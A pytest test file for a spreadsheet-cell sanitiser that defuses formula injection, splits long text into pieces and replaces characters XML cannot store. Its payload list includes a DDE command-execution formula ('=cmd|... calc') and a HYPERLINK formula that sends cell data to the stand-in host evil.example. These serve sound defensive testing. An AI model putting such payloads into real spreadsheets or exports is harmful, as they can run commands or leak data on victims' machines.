"""What may stand in a cell."""

import time

import pytest

from reports.rules import cells

PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1+1",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1"',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
    "@import",
    "- a point of a list",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_could_run_is_a_formula_and_is_defused(text: str) -> None:
    assert cells.is_formula(text)

    shown = cells.defused(text)
    assert shown.lstrip("\t\r\n")[0] == "'"
    assert shown.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["", "A plain sentence.", "2 + 2 = 4", "a@b.example", "1042", "“=1”", "نص", "(-1)", "*weight* - yes"]
)
def test_text_that_cannot_run_stays_as_it_is(text: str) -> None:
    assert not cells.is_formula(text)
    assert cells.defused(text) == text


def test_place_where_another_separator_begins_a_cell_is_defused() -> None:
    """A spreadsheet set to semicolons reads the rows of a file with commas in its own way."""
    text = "First\n=1+1\nthen; =2+2;\t@x, =3"

    assert cells.defused(text) == "First\n'=1+1\nthen;' =2+2;\t'@x, =3"


def test_cell_that_begins_with_a_tab_or_a_return_begins_with_an_apostrophe() -> None:
    assert cells.defused("\tword") == "'\tword"
    assert cells.defused("\rword") == "'\rword"


def test_long_hostile_text_is_defused_in_linear_time() -> None:
    begun = time.process_time()
    for piece in ("\n", " ", "'", "\n =", ";;'"):
        cells.defused(piece * 200_000)

    # Squares of 200,000 would take hours.
    assert time.process_time() - begun < 60


def test_short_text_is_one_piece() -> None:
    assert cells.pieces("Short.") == ["Short."]
    assert cells.pieces("") == [""]


@pytest.mark.parametrize("text", ["a" * 100_000, "word " * 20_000, "🕊" * 40_000, "é\n" * 40_000])
def test_long_text_is_cut_into_pieces_that_fit_and_loses_nothing(text: str) -> None:
    found = cells.pieces(text)

    assert "".join(found) == text
    assert max(len(piece.encode("utf-16-le")) // 2 for piece in found) <= cells.CELL_LIMIT


def test_cut_stands_between_words() -> None:
    words = "one two three four five six "

    assert cells.pieces(words * 2, limit=30) == [words, words]


def test_sign_that_xml_cannot_say_is_replaced() -> None:
    assert cells.storable("a\uffffb") == "a\ufffdb"
